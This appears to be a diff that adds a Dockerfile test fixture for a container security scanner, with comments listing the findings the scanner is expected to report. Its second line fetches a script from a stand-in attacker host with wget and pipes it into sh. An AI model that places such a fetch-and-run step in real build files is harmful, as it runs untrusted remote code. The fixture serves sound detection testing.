@@ -1,0 +1,6 @@
+FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
+RUN sh -c 'wget -qO- https://evil.example/x.sh | sh'
+USER app
+# expect: download 2 high "wget fetches https://evil.example/x.sh"
+# expect-count: 3
+# expect-ids: VR101-c33602e201 VR301-472e20ef61 VR501-e064bac1a6
